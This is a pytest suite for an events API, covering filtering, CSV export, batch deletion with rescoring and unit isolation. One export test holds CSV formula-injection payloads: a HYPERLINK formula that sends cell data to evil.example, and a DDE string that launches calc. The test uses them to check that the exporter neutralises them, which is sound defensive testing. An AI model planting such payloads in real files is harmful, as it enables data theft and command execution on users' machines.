"""Events through HTTP: list filters and paging, CSV export, batch delete with rescoring, explanations, event
types, channels and a lead's events, each confined to the active OU."""

from __future__ import annotations

import csv
import io
import json
import re
import time
from typing import Any
from urllib.parse import parse_qs

import pytest

from leadvibe.timeutil import ManualClock, range_bounds, to_rfc3339
from tests.conftest import Api
from tests.helpers import add_rules, delta_sums, member_headers, on_app_loop, scores_of, wait_idle

# The clock is frozen near real time (session tokens are checked against the wall clock).
NOW = int(time.time()) * 1000
HOUR = 3_600_000


@pytest.fixture
def clock() -> ManualClock:
    return ManualClock(NOW)


@pytest.fixture
async def basic(api: Api) -> dict[str, str]:
    headers = await api.credential("events")
    headers.pop("X-Secret-Id")
    return headers


def at(hours_ago: float) -> str:
    """An RFC 3339 timestamp `hours_ago` before the test clock's now (events an hour or more apart never
    surge)."""
    return str(to_rfc3339(NOW - int(hours_ago * HOUR)))


async def ingest(api: Api, headers: dict[str, str], lead_id: str, event_type: str, hours_ago: float,
                 **metadata: Any) -> str:
    body: dict[str, Any] = {"lead_id": lead_id, "event_type": event_type, "timestamp": at(hours_ago)}
    if metadata:
        body["metadata"] = metadata
    r = await api.client.post("/ingest", json=body, headers=headers)
    assert r.status_code == 202, r.text
    return str(r.json()["metadata"]["event_id"])


async def other_unit(api: Api) -> dict[str, str]:
    """A second OU of the org and session headers acting in it (the admin is Owner everywhere)."""
    r = await api.post("/org-units", json={"name": "Other"})
    assert r.status_code in (200, 201), r.text
    return {**api.headers, "X-OU-ID": r.json()["unit_id"]}


@pytest.fixture
async def dataset(api: Api, basic: dict[str, str]) -> dict[str, str]:
    """Five events of two leads over three days; returns name -> event id."""
    await add_rules(api, {"page_view": 5, "demo_request": 20, "email_open": 2})
    ids = {
        "pv_old": await ingest(api, basic, "ld_a", "page_view", 50, utm_campaign="fall2025", plan="pro"),
        "email": await ingest(api, basic, "ld_a", "email_open", 30, campaign="Q1 Nurture", opened=True),
        "demo": await ingest(api, basic, "ld_b", "Demo Request", 20, utm_campaign="spring", plan="pro",
                             seats=3),
        "pv_title": await ingest(api, basic, "ld_b", "Page View", 2, utm_campaign="fall2025",
                                 path="/pricing"),
        "pv_new": await ingest(api, basic, "ld_a", "page_view", 1, path="/docs"),
    }
    await wait_idle(api)
    return ids


async def ids_of(api: Api, query: str, **kw: Any) -> list[str]:
    r = await api.get(f"/events?{query}", **kw)
    assert r.status_code == 200, r.text
    return [e["id"] for e in r.json()["events"]]


async def test_list_envelope_shape_and_newest_first(api: Api, dataset: dict[str, str]) -> None:
    r = await api.get("/events")
    body = r.json()
    assert r.status_code == 200 and body["total"] == 5 and body["page"] == 1 and body["limit"] == 25
    assert [e["id"] for e in body["events"]] == [dataset[k] for k in ("pv_new", "pv_title", "demo", "email",
                                                                      "pv_old")]
    first = body["events"][1]
    assert first["event_type"] == "Page View"  # as sent
    assert first["lead_id"] == "ld_b"
    assert first["metadata"] == {"utm_campaign": "fall2025", "path": "/pricing"}
    assert first["created_at"] == first["occurred_at"] == at(2)
    assert first["channel"] == "web" and first["source"] == "api" and first["inorganic"] is False
    assert first["filtered_by"] is None and first["grouped_with"] is None and first["received_at"]
    email = body["events"][3]
    assert email["channel"] == "email"
    page2 = (await api.get("/events?page=2&limit=2")).json()
    assert [e["id"] for e in page2["events"]] == [dataset["demo"], dataset["email"]]
    assert page2["total"] == 5 and page2["page"] == 2 and page2["limit"] == 2
    assert (await api.get("/events?page=9")).json()["events"] == []


async def test_guide_curl_example_with_bearer_and_basic(api: Api, dataset: dict[str, str],
                                                        basic: dict[str, str]) -> None:
    # curl -X GET ".../events?page=1&limit=25&event_type=page_view" -H "Authorization: Bearer <token>"
    bearer = {"Authorization": api.headers["Authorization"]}
    r = await api.client.get("/events?page=1&limit=25&event_type=page_view", headers={**bearer, "X-OU-ID":
                                                                                       "unit_default"})
    assert r.status_code == 200 and r.json()["total"] == 3
    r = await api.client.get("/events?page=1&limit=25&event_type=page_view", headers=basic)
    assert r.status_code == 200 and r.json()["total"] == 3


async def test_event_type_matches_any_spelling(api: Api, dataset: dict[str, str]) -> None:
    want = [dataset["pv_new"], dataset["pv_title"], dataset["pv_old"]]
    for spelling in ("page_view", "Page View", "page-view", "PAGE%20VIEW"):
        assert await ids_of(api, f"event_type={spelling}") == want
    assert await ids_of(api, "event_type=demo_request") == [dataset["demo"]]
    assert await ids_of(api, "event_type=nothing_like_it") == []


async def test_lead_and_range_filters(api: Api, dataset: dict[str, str]) -> None:
    assert await ids_of(api, "lead_id=ld_b") == [dataset["pv_title"], dataset["demo"]]
    assert await ids_of(api, "range=last_24h") == [dataset["pv_new"], dataset["pv_title"], dataset["demo"]]
    hours = {"pv_new": 1, "pv_title": 2, "demo": 20, "email": 30, "pv_old": 50}
    for name in ("today", "yesterday"):
        start, end = range_bounds(name, NOW)
        want = [dataset[k] for k, h in hours.items()
                if (start or 0) <= NOW - h * HOUR < (end if end is not None else NOW + 1)]
        assert await ids_of(api, f"range={name}") == want, name
    assert len(await ids_of(api, "range=last_7d")) == len(await ids_of(api, "range=all")) == 5
    assert await ids_of(api, "range=last_24h&lead_id=ld_a&event_type=Page%20View") == [dataset["pv_new"]]


async def test_metadata_filters_and_or(api: Api, dataset: dict[str, str]) -> None:
    assert await ids_of(api, "metadata=utm_campaign:fall2025") == [dataset["pv_title"], dataset["pv_old"]]
    both = "metadata=utm_campaign:fall2025&metadata=plan:pro"
    assert await ids_of(api, both) == [dataset["pv_old"]]
    assert await ids_of(api, both + "&logic=and") == [dataset["pv_old"]]
    assert await ids_of(api, both + "&logic=or") == [dataset["pv_title"], dataset["demo"], dataset["pv_old"]]
    # values compare as text: numbers as written, JSON booleans by name; a colon in the value is kept
    assert await ids_of(api, "metadata=seats:3") == [dataset["demo"]]
    assert await ids_of(api, "metadata=opened:true") == [dataset["email"]]
    assert await ids_of(api, "metadata=campaign:Q1%20Nurture") == [dataset["email"]]
    assert await ids_of(api, "metadata=path:/pricing&lead_id=ld_a") == []
    assert (await api.get("/events?metadata=utm_campaign:fall2025&logic=or")).json()["total"] == 2


@pytest.mark.parametrize("query,needle", [
    ("page=0", "page"),
    ("page=-1", "page"),
    ("limit=0", "limit"),
    ("limit=501", "limit"),
    ("limit=abc", "limit"),
    ("range=last_year", "range"),
    ("metadata=no_colon", "metadata"),
    ("metadata=:value", "metadata"),
    ('metadata=a"b:c', "metadata"),
    ("metadata=%5C:1", "metadata"),
    ("metadata=a%5Cb:1", "metadata"),
    ("logic=xor", "logic"),
])
async def test_bad_list_inputs_answer_400(api: Api, query: str, needle: str) -> None:
    for path in ("/events", "/events/export"):
        r = await api.get(f"{path}?{query}")
        if path == "/events/export" and needle in ("page", "limit"):
            continue  # the export has no paging
        assert r.status_code == 400, (path, r.text)
        assert needle in r.json()["error"]


async def test_limit_bounds_and_default(api: Api, dataset: dict[str, str]) -> None:
    assert (await api.get("/events?limit=500")).json()["limit"] == 500
    assert (await api.get("/events?limit=1")).json()["events"][0]["id"] == dataset["pv_new"]


async def test_lists_need_auth_and_stay_in_the_ou(api: Api, dataset: dict[str, str]) -> None:
    assert (await api.client.get("/events")).status_code == 401
    other = await other_unit(api)
    r = await api.get("/events", headers=other)
    assert r.status_code == 200 and r.json()["total"] == 0
    assert (await api.get("/events?lead_id=ld_a", headers=other)).json()["events"] == []


async def csv_rows(api: Api, path: str) -> list[list[str]]:
    r = await api.get(path)
    assert r.status_code == 200, r.text
    return list(csv.reader(io.StringIO(r.text)))


async def test_export_csv_content_filters_and_paging(api: Api, dataset: dict[str, str],
                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    import leadvibe.api.events as events_api

    monkeypatch.setattr(events_api, "EXPORT_PAGE", 2)  # several keyset pages for five events
    r = await api.get("/events/export")
    assert r.status_code == 200, r.text
    assert r.headers["content-type"].startswith("text/csv")
    assert "attachment" in r.headers["content-disposition"]
    rows = list(csv.reader(io.StringIO(r.text)))
    assert rows[0] == ["id", "lead_id", "event_type", "timestamp", "channel", "source", "metadata"]
    order = ("pv_new", "pv_title", "demo", "email", "pv_old")
    assert [row[0] for row in rows[1:]] == [dataset[k] for k in order]
    assert rows[2][1:6] == ["ld_b", "Page View", at(2), "web", "api"]
    assert json.loads(rows[2][6]) == {"utm_campaign": "fall2025", "path": "/pricing"}
    only = await csv_rows(api, "/events/export?event_type=Page%20View&lead_id=ld_a")
    assert [row[0] for row in only[1:]] == [dataset["pv_new"], dataset["pv_old"]]
    meta = await csv_rows(api, "/events/export?metadata=plan:pro&range=last_24h")
    assert [row[0] for row in meta[1:]] == [dataset["demo"]]


async def test_export_pages_through_equal_timestamps(api: Api, basic: dict[str, str],
                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    import leadvibe.api.events as events_api

    monkeypatch.setattr(events_api, "EXPORT_PAGE", 2)  # page boundaries fall between events of one instant
    sent = [await ingest(api, basic, f"ld_{i % 2}", "page_view", 3) for i in range(5)]
    sent.append(await ingest(api, basic, "ld_0", "page_view", 4))
    await wait_idle(api)
    rows = await csv_rows(api, "/events/export")
    # newest first; events of the same instant latest arrival first, each exactly once
    assert [row[0] for row in rows[1:]] == [*reversed(sent[:5]), sent[5]]


async def test_export_neutralizes_formula_cells(api: Api, basic: dict[str, str]) -> None:
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    await ingest(api, basic, "=cmd|' /C calc'!A0", "@SUM(1+1)", 1, note=formula, channel="+web")
    await ingest(api, basic, "ld_plain", "page_view", 2, note="fine")
    await wait_idle(api)
    r = await api.get("/events/export")
    rows = list(csv.reader(io.StringIO(r.text)))
    evil = rows[1]
    assert evil[1] == "'=cmd|' /C calc'!A0"
    assert evil[2] == "'@SUM(1+1)"
    assert evil[4] == "'+web"
    # The metadata cell is JSON (it starts with `{`, never a formula) and keeps the value intact.
    assert evil[6].startswith("{") and json.loads(evil[6])["note"] == formula
    assert rows[2][1] == "ld_plain" and rows[2][2] == "page_view"


async def test_export_of_an_empty_ou_is_just_the_header(api: Api) -> None:
    r = await api.get("/events/export")
    assert r.status_code == 200 and r.text == "id,lead_id,event_type,timestamp,channel,source,metadata\r\n"


async def _invariant_holds(api: Api, lead_id: str) -> dict[str, int]:
    scores = await scores_of(api, lead_id)
    sums = await delta_sums(api, lead_id)
    assert {k: v for k, v in scores.items()} == {k: sums.get(k, 0) for k in scores}
    return scores


async def test_batch_delete_both_body_forms_rescores(api: Api, dataset: dict[str, str],
                                                     basic: dict[str, str]) -> None:
    assert await scores_of(api, "ld_a") == {"rs_test": 5 + 2 + 5}
    r = await api.request("DELETE", "/events/batch", json={"event_ids": [dataset["pv_old"], "ev_unknown"]})
    assert r.status_code == 200 and r.json() == {"deleted": 1}
    assert await _invariant_holds(api, "ld_a") == {"rs_test": 2 + 5}
    # the reference's `ids`, with an API credential (Operator)
    r = await api.client.request("DELETE", "/events/batch", json={"ids": [dataset["demo"], dataset["demo"]]},
                                 headers=basic)
    assert r.status_code == 200 and r.json() == {"deleted": 1}
    assert await _invariant_holds(api, "ld_b") == {"rs_test": 5}
    remaining = await ids_of(api, "")
    assert remaining == [dataset["pv_new"], dataset["pv_title"], dataset["email"]]
    # deleted again: nothing left to count
    r = await api.request("DELETE", "/events/batch", json={"event_ids": [dataset["pv_old"]]})
    assert r.json() == {"deleted": 0}
    # the catalogue counts follow (analytics read them)
    counts = await api.rt.db.read(lambda c: dict(c.execute(
        "SELECT type_key, event_count FROM event_types WHERE unit_id = 'unit_default'").fetchall()))
    # (a type none of whose events is left leaves the catalogue, as a deleted type does)
    assert counts == {"page_view": 2, "email_open": 1}
    # ...and so do the types' earliest and latest event times (the deleted page_view was the earliest)
    bounds = await api.rt.db.read(lambda c: c.execute(
        "SELECT t.type_key FROM event_types t WHERE t.unit_id = 'unit_default'"
        " AND (t.first_seen_at, t.last_seen_at) IS NOT (SELECT min(occurred_at), max(occurred_at) FROM events e"
        " WHERE e.unit_id = t.unit_id AND e.type_key = t.type_key)").fetchall())
    assert bounds == []


async def test_batch_delete_reaches_events_not_scored_yet(api: Api, dataset: dict[str, str]) -> None:
    """An acknowledged event still waiting for the worker is deleted too (counted once), not stored after the 200
    said it was gone; another OU's ids are not touched."""
    other = await other_unit(api)
    worker = api.rt.worker
    assert worker is not None
    await on_app_loop(api, worker.stop)
    try:
        r = await api.post("/ingest/batch", json={"events": [{"lead_id": "ld_a", "event_type": "page_view"}] * 3})
        assert r.status_code == 202, r.text
        queued = [x["event_id"] for x in r.json()["results"]]
        r = await api.client.post("/ingest", json={"lead_id": "ld_x", "event_type": "page_view"}, headers=other)
        assert r.status_code == 202, r.text
        elsewhere = r.json()["metadata"]["event_id"]
        r = await api.request("DELETE", "/events/batch",
                              json={"event_ids": [queued[0], queued[1], elsewhere, dataset["pv_old"]]})
        assert r.status_code == 200 and r.json() == {"deleted": 3}
    finally:
        await on_app_loop(api, worker.start)
    await wait_idle(api)
    left = await api.rt.db.read(lambda c: [r[0] for r in c.execute(
        "SELECT id FROM events WHERE id IN (?, ?, ?, ?) ORDER BY seq", (*queued, elsewhere))])
    assert left == [queued[2], elsewhere]
    assert await _invariant_holds(api, "ld_a") == {"rs_test": 2 + 5 + 5}


async def test_batch_delete_refreshes_lead_recency(api: Api, dataset: dict[str, str]) -> None:
    r = await api.request("DELETE", "/events/batch", json={"ids": [dataset["pv_new"]]})
    assert r.json() == {"deleted": 1}
    row = await api.rt.db.read(lambda c: c.execute(
        "SELECT last_event_at, last_event_type, last_organic_at FROM leads WHERE unit_id='unit_default'"
        " AND id='ld_a'").fetchone())
    assert row == (NOW - 30 * HOUR, "email_open", NOW - 30 * HOUR)


async def test_batch_delete_never_touches_another_ou(api: Api, dataset: dict[str, str]) -> None:
    other = await other_unit(api)
    r = await api.request("DELETE", "/events/batch", json={"event_ids": [dataset["demo"]]}, headers=other)
    assert r.status_code == 200 and r.json() == {"deleted": 0}
    assert dataset["demo"] in await ids_of(api, "")
    assert await scores_of(api, "ld_b") == {"rs_test": 20 + 5}


@pytest.mark.parametrize("body", [
    {},
    {"event_ids": []},
    {"ids": []},
    {"event_ids": "ev_1"},
    {"event_ids": [1, 2]},
    {"event_ids": [f"ev_{i}" for i in range(1001)]},
    {"event_ids": ["ev_1", *[""] * 1000]},  # counted as sent, blanks too (the document's maxItems)
    {"event_ids": ["ev_1"] * 1001},
])
async def test_batch_delete_bad_bodies_answer_400(api: Api, body: dict[str, Any]) -> None:
    r = await api.request("DELETE", "/events/batch", json=body)
    assert r.status_code == 400, r.text
    assert "error" in r.json()


async def test_batch_delete_accepts_a_thousand_ids(api: Api, dataset: dict[str, str]) -> None:
    ids = [dataset["email"], *[f"ev_none_{i}" for i in range(999)]]
    r = await api.request("DELETE", "/events/batch", json={"event_ids": ids})
    assert r.status_code == 200 and r.json() == {"deleted": 1}


async def test_batch_delete_needs_operator(api: Api, dataset: dict[str, str]) -> None:
    viewer = await member_headers(api)
    r = await api.request("DELETE", "/events/batch", json={"ids": [dataset["demo"]]}, headers=viewer)
    assert r.status_code == 403
    assert (await api.get("/events", headers=viewer)).json()["total"] == 5


async def test_explanation_per_ruleset(api: Api, dataset: dict[str, str]) -> None:
    await add_rules(api, {"page_view": 1}, ruleset_id="rs_second", primary=False)
    await ingest(api, api.headers, "ld_b", "page_view", 0.5)
    await wait_idle(api)
    r = await api.get(f"/events/{dataset['pv_title']}/explanation")
    assert r.status_code == 200, r.text
    body = r.json()
    assert body["event_id"] == dataset["pv_title"] and body["lead_id"] == "ld_b"
    assert body["event_type"] == "Page View" and body["occurred_at"] == at(2)
    assert body["channel"] == "web" and body["inorganic"] is False and body["multiplier"] == 1.0
    assert body["filtered_by"] is None and body["grouped_with"] is None
    (primary,) = body["rulesets"]  # the second ruleset came after this event
    assert primary["ruleset_id"] == primary["name"] == "rs_test" and primary["is_primary"] is True
    assert primary["weight"] == 5 and primary["delta"] == 5 and primary["multiplier"] == 1.0
    assert primary["before"] == 20 and primary["after"] == 25 and len(primary["rule_ids"]) == 1
    latest = (await api.get("/events?limit=1")).json()["events"][0]["id"]
    rulesets = (await api.get(f"/events/{latest}/explanation")).json()["rulesets"]
    assert [(x["ruleset_id"], x["is_primary"], x["delta"]) for x in rulesets] == [("rs_test", True, 5),
                                                                                  ("rs_second", False, 1)]
    unmatched = (await api.get(f"/events/{dataset['demo']}/explanation")).json()["rulesets"][0]
    assert unmatched["before"] == 0 and unmatched["after"] == 20


async def test_scores_before_and_after_follow_a_rescore(api: Api, basic: dict[str, str]) -> None:
    """A weight change rescored rewrites the rows whose delta changed and leaves the others alone; every event's
    score before and after it, in the explanation, the lead's activity and a milestone simulation, is what the
    new weights give in arrival order, the floor included."""
    await add_rules(api, {"page_view": 3, "demo": -4, "email_open": 1})
    await add_rules(api, {"page_view": 1}, ruleset_id="rs_other", primary=False)
    kinds = ["page_view", "demo", "page_view", "email_open", "demo", "demo", "page_view", "email_open"]
    ids = [await ingest(api, basic, "ld_r", kind, 40 - 5 * i) for i, kind in enumerate(kinds)]
    await wait_idle(api)
    opens = "SELECT * FROM event_scores WHERE weight = 1 AND ruleset_id = 'rs_test' ORDER BY 1"
    stored = await api.rt.db.read(lambda c: c.execute(opens).fetchall())
    rule = await api.rt.db.read(lambda c: c.execute(
        "SELECT id FROM rules WHERE ruleset_id = 'rs_test' AND type_key = 'page_view'").fetchone()[0])
    assert (await api.put(f"/rules/{rule}", json={"weight": 7})).status_code == 200
    assert (await api.post("/rulesets/rs_test/rescore")).status_code in (200, 202)
    await wait_idle(api)
    # Before the change: 3, 0 (floored), 3, 4, 0, 0, 3, 4. After it:
    expected = [(0, 7), (7, 3), (3, 10), (10, 11), (11, 7), (7, 3), (3, 10), (10, 11)]
    got = []
    for n, event_id in enumerate(ids, start=1):
        body = (await api.get(f"/events/{event_id}/explanation")).json()
        primary = next(x for x in body["rulesets"] if x["ruleset_id"] == "rs_test")
        assert primary["after"] - primary["before"] == primary["delta"]
        got.append((primary["before"], primary["after"]))
        views = sum(k == "page_view" for k in kinds[:n])
        other = [(x["before"], x["after"]) for x in body["rulesets"] if x["ruleset_id"] == "rs_other"]
        assert other == ([(views - 1, views)] if kinds[n - 1] == "page_view" else [(views, views)])
    assert got == expected
    assert await scores_of(api, "ld_r") == {"rs_test": 11, "rs_other": 3} == await delta_sums(api, "ld_r")
    activity = (await api.get("/leads/ld_r/activity?range=all")).json()
    scores = {e["id"]: e["score"] for e in activity["events"]}
    assert [scores[i] for i in ids] == [after for _, after in expected]
    # The email opens' deltas did not change: their rows were left alone (running totals are summed when read).
    assert await api.rt.db.read(lambda c: c.execute(opens).fetchall()) == stored
    # A milestone at 9 fires at 10 (the third event), re-arms at 7 and fires again at 10 (the seventh).
    r = await api.post("/triggers/milestones", json={"name": "Nine", "event_type": "", "score_threshold": 9})
    assert r.status_code == 201, r.text
    sim = (await api.post(f"/triggers/milestones/{r.json()['trigger_id']}/simulate", json={"days": 7})).json()
    assert (sim["would_fire"], sim["matched_leads"], sim["total_matches"]) == (True, ["ld_r"], 2), sim
    alone = (await api.post(f"/triggers/milestones/{r.json()['trigger_id']}/simulate",
                            json={"days": 7, "lead_id": "ld_r"})).json()
    assert (alone["would_fire"], alone["total_matches"]) == (True, 2), alone


async def test_explanation_404_for_unknown_and_other_ou(api: Api, dataset: dict[str, str]) -> None:
    assert (await api.get("/events/ev_nope/explanation")).status_code == 404
    other = await other_unit(api)
    r = await api.get(f"/events/{dataset['demo']}/explanation", headers=other)
    assert r.status_code == 404 and r.json() == {"error": "event not found"}


async def test_event_types_visible_and_properties(api: Api, dataset: dict[str, str]) -> None:
    r = await api.get("/event-types")
    assert r.status_code == 200 and r.json() == ["Demo Request", "email_open", "page_view"]
    await api.rt.db.write(lambda c: c.execute(
        "INSERT INTO event_type_settings (unit_id, type_key, hidden, updated_at) VALUES ('unit_default',"
        " 'email_open', 1, 0)"))
    assert (await api.get("/event-types")).json() == ["Demo Request", "page_view"]
    # hidden types are still stored and listed by /events (the raw record)
    assert await ids_of(api, "event_type=email_open") == [dataset["email"]]
    r = await api.get("/event-types/Page%20View/properties")
    assert r.status_code == 200
    assert r.json() == {"event_type": "page_view", "properties": ["path", "plan", "utm_campaign"]}
    demo = (await api.get("/event-types/demo_request/properties")).json()
    assert demo == {"event_type": "Demo Request", "properties": ["plan", "seats", "utm_campaign"]}
    assert (await api.get("/event-types/never_seen/properties")).status_code == 404
    assert (await api.get("/event-types/%20/properties")).status_code == 400
    other = await other_unit(api)
    assert (await api.get("/event-types", headers=other)).json() == []
    assert (await api.get("/event-types/page_view/properties", headers=other)).status_code == 404


async def test_channels(api: Api, basic: dict[str, str]) -> None:
    assert (await api.get("/channels")).json() == []
    await ingest(api, basic, "ld_c", "page_view", 3)
    await ingest(api, basic, "ld_c", "email_click", 2)
    await ingest(api, basic, "ld_c", "Webinar Joined", 1)
    await ingest(api, basic, "ld_c", "page_view", 0.5, channel="Partner")
    await wait_idle(api)
    r = await api.get("/channels")
    assert r.status_code == 200 and r.json() == ["email", "partner", "web", "webinar"]
    other = await other_unit(api)
    assert (await api.get("/channels", headers=other)).json() == []


async def test_lead_events(api: Api, dataset: dict[str, str]) -> None:
    r = await api.get("/leads/ld_a/events")
    assert r.status_code == 200
    assert [e["id"] for e in r.json()] == [dataset["pv_new"], dataset["email"], dataset["pv_old"]]
    assert r.headers["X-Total-Count"] == "3"
    assert r.headers["Link"] == ('</leads/ld_a/events?page=1&limit=50>; rel="first", '
                                 '</leads/ld_a/events?page=1&limit=50>; rel="last"')
    r = await api.get("/leads/ld_a/events?limit=1&page=2")
    assert [e["id"] for e in r.json()] == [dataset["email"]]
    assert r.headers["X-Total-Count"] == "3"
    assert r.headers["Link"] == ('</leads/ld_a/events?page=1&limit=1>; rel="first", '
                                 '</leads/ld_a/events?page=1&limit=1>; rel="prev", '
                                 '</leads/ld_a/events?page=3&limit=1>; rel="next", '
                                 '</leads/ld_a/events?page=3&limit=1>; rel="last"')
    r = await api.get("/leads/ld_a/events?event_type=Page%20View&range=last_24h")
    assert [e["id"] for e in r.json()] == [dataset["pv_new"]]
    first = re.match(r'<([^>]+)>; rel="first"', r.headers["Link"]).group(1)  # type: ignore[union-attr]
    assert first.startswith("/leads/ld_a/events?")
    assert parse_qs(first.split("?", 1)[1]) == {"event_type": ["Page View"], "range": ["last_24h"], "page": ["1"],
                                                 "limit": ["50"]}
    assert (await api.get("/leads/ld_nobody/events")).status_code == 404
    assert (await api.get("/leads/ld_a/events?page=0")).status_code == 400
    assert (await api.get("/leads/ld_a/events?limit=501")).status_code == 400
    other = await other_unit(api)
    assert (await api.get("/leads/ld_a/events", headers=other)).status_code == 404


def test_a_leads_event_list_starts_from_the_leads_index() -> None:
    # Without table statistics the planner would answer "newest first" by walking the whole OU's time index and
    # filtering the lead: seconds at a million events.
    import apsw

    from leadvibe.db.migrate import apply_migrations
    from leadvibe.store import event_queries as q

    conn = apsw.Connection(":memory:")
    apply_migrations(conn)
    plans: list[str] = []
    for f in (q.EventFilter(lead_id="ld_1"), q.EventFilter(lead_id="ld_1", type_key="page_view")):
        where, params = q._where("u", f)
        sql = f"SELECT seq FROM {q._source(f)} WHERE {where} {q._newest_first(f)} LIMIT 50"
        plans += [row[3] for row in conn.execute("EXPLAIN QUERY PLAN " + sql, params)]
    assert not any("events_unit_time" in p for p in plans) and any("lead" in p for p in plans), plans
